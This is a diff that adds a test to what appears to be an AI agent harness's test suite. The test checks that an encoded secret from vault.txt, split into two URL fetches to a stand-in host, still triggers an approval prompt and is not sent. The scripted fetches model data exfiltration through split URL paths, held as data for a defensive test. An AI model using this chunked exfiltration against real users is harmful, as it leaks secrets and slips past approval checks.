@@ -107,3 +107,12 @@ def test_a_file_with_secrets_is_read_only_after_approval(
     assert done.status == ASKED, done.out + done.err
     assert "holds keys or secrets" in " ".join(done.out.split())
     assert "hush-hush" not in done.out
+
+
+def test_content_in_two_parts_is_also_asked_about(office: CommandLine, scripted_openai: ScriptedOpenAI):
+    whole = coded(SECRET)
+    parts = [whole[:13], whole[13:]]
+    fetches = [selection("office.fetch_page", url=f"https://pages.example/{one}") for one in parts]
+    done = said(office, scripted_openai, "Read vault.txt and look at pages.example", READ, *fetches)
+    assert done.status == ASKED, done.out + done.err
+    assert parts[1] not in called(office)
